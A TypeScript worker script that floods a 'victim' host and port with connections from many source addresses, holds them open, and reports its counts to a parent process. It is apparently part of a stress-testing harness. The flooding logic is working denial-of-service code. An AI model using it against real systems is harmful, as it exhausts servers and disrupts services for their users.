// A flood: opens so many connections a second from many addresses, and does the same on each. What the other side does not
// close stays open. Usage: flood-process HOST PORT RATE KIND TOKEN, started by `fork`. Says when the first connection is
// there, and how many there were when it is asked.
import type { Socket } from 'node:net';
import { knock, sayer, sourceAddress, type FloodKind } from './flood.ts';

/** How often the next connections are started, ms. */
const BEAT_MS = 10;

/** Beats that a busy machine may make up for at once. */
const LATE_BEATS = 5;

const [host = '', port = '', rate = '', kind = '', token = ''] = process.argv.slice(2);
const victim = { host, port: Number(port) };
const say = sayer(kind as FloodKind, token);
const perBeat = (Number(rate) * BEAT_MS) / 1000;
const open = new Set<Socket>();
const begun = performance.now();
let started = 0;
let connections = 0;

setInterval(() => {
  const due = ((performance.now() - begun) / BEAT_MS) * perBeat;
  for (let n = Math.min(due - started, LATE_BEATS * perBeat); n >= 1; n -= 1) {
    void knock(victim, sourceAddress(Math.floor(started + n))).then(keep);
  }
  started = due;
}, BEAT_MS);

function keep(socket: Socket | null): void {
  if (!socket) return;
  connections += 1;
  say(socket);
  if (connections === 1) process.send?.(connections);
  open.add(socket);
  socket.once('close', () => open.delete(socket));
}

process.on('message', () => process.send?.(connections));
process.once('disconnect', () => process.exit(0));
